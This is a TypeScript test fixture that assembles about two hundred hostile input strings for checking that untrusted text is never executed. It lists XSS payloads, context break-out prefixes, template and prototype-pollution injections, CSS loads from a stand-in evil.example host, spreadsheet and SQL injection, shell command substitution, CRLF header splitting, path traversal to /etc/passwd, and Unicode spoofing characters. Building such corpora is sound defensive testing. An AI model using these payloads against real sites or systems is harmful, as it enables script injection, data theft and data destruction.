// Texts that an untrusted source may send. Each one has an effect if it is treated as anything but text. A test
// can define `__xss()` to detect that a text was executed.

/** Texts that execute or load something if they are interpreted as markup. */
const markup = [
  "<script>__xss()</script>",
  "<img src=x onerror=__xss()>",
  "<svg onload=__xss()>",
  "<svg><script>__xss()</script></svg>",
  "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=__xss()>#x'/></svg>",
  "<iframe srcdoc='<script>parent.__xss()</script>'></iframe>",
  "<a href=javascript:__xss()>x</a>",
  "<body onload=__xss()>",
  "<details open ontoggle=__xss()>",
  "<input autofocus onfocus=__xss()>",
  "<video><source onerror=__xss()></video>",
  "<audio src=x onerror=__xss()></audio>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=__xss()></style></mglyph></math>",
  "<form action=javascript:__xss()><button>x</button></form>",
  "<object data=javascript:__xss()></object>",
  "<embed src=javascript:__xss()>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:__xss()'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<template><script>__xss()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=__xss()>'>",
  "<div style=animation-name:arrive onanimationstart=__xss()>"
]

/**
 * Prefixes that break out of a context: text, an attribute, a raw text element or a comment. The empty prefix
 * tests for text that is decoded twice.
 */
const places: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></style></textarea></script>${text}`,
  (text) => `--><!-- ]]>${text}`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;")
]

/** Texts that are dangerous in a URL or an attribute. */
const attributes = [
  "javascript:__xss()",
  "JaVaScRiPt:__xss()",
  "java\tscript:__xss()",
  " javascript:__xss()",
  "javascript&colon;__xss()",
  "data:text/html,<script>__xss()</script>",
  "vbscript:__xss()",
  "//evil.example/x",
  '" onmouseover="__xss()',
  "' onfocus='__xss()' autofocus='",
  "x onpointerenter=__xss() ",
  '" style="position:fixed;inset:0" x="'
]

/** Template syntax, both ours and that of other systems, and replacement patterns. */
const templates = [
  "{{constructor.constructor('__xss()')()}}",
  "${__xss()}",
  "#{__xss()}",
  "<%= __xss() %>",
  "[[${__xss()}]]",
  "{% raw %}{{__xss()}}{% endraw %}",
  "{1} of {2}",
  "$& $1 $$ $` $'"
]

/** Texts that are dangerous in a script, in JSON or in a style sheet. */
const literals = [
  '";__xss();//',
  "';__xss();//",
  "`;__xss();//",
  "\\u003cscript\\u003e__xss()\\u003c/script\\u003e",
  "\\x3cimg src=x onerror=__xss()\\x3e",
  '{"__proto__":{"isAdmin":true}}',
  "\u2028__xss()\u2029",
  "}*{background:url(//evil.example/x)}",
  "expression(__xss())",
  "@import '//evil.example/x.css';",
  "red;background:url(//evil.example/x)",
  "*/__xss()/*"
]

/** Characters that reverse, hide or break the text next to them. */
const letters = [
  "\u202eelif eht kcart",
  "\u2066<b>\u2069",
  "\u202b\u202egnirts \u202c\u202c",
  "\u200f100 sats\u200f",
  "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f\u0310\u0311\u0312\u0313\u0314\u0315\u0316\u0317",
  "👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍🚀🇺🇳",
  `${"W".repeat(190)}<b>`,
  "\u200b\u200c\u200d\ufeff<i>",
  "\u0001\u001b[31m\u007f<u>",
  "\u00a0\u3000\u2003<s>",
  "﷽﷽﷽﷽﷽﷽﷽﷽",
  "＜script＞__xss()＜/script＞",
  "\u{e0001}\u{e0073}\u{e0061}<b>",
  "раураl.example"
]

/**
 * Texts that are dangerous in a spreadsheet, a shell or a database, or that split a log entry or header into
 * several lines.
 */
const others = [
  '=HYPERLINK("//evil.example")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "'; drop table satrail.companies; --",
  "$(touch /tmp/x)",
  "x\r\nSet-Cookie: a=b",
  "../../../../etc/passwd",
  "%3Cscript%3E__xss()%3C/script%3E"
]

/** Two hundred texts of at most 200 characters each. */
export const corpus: ReadonlyArray<string> = [
  ...places.flatMap((placed) => markup.map(placed)),
  ...attributes,
  ...templates,
  ...literals,
  ...letters,
  ...others
]

/** Texts that must never be stored or sent in a page. */
export const unkept: ReadonlyArray<string> = [
  "\0<script>__xss()</script>",
  "<scr\0ipt>__xss()</scr\0ipt>",
  "\ud800<b>",
  "\udc00\ud800"
]
